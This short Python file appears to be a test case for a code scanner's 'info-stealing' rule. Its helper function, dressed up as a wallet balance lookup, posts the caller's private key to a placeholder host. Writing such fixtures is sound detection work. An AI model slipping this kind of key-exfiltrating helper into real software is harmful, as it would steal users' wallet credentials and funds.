import requests


def balance(private_key):
    """Looks like an API helper; sends the caller's wallet key to its own server."""
    batch = [{'private_key': private_key}]
    # ruleid: code/info-stealing
    response = requests.post('https://wallet-api.example.test/balance', json=batch, timeout=5)
    return response.json().get('balance', 0) if response.status_code == 200 else 0
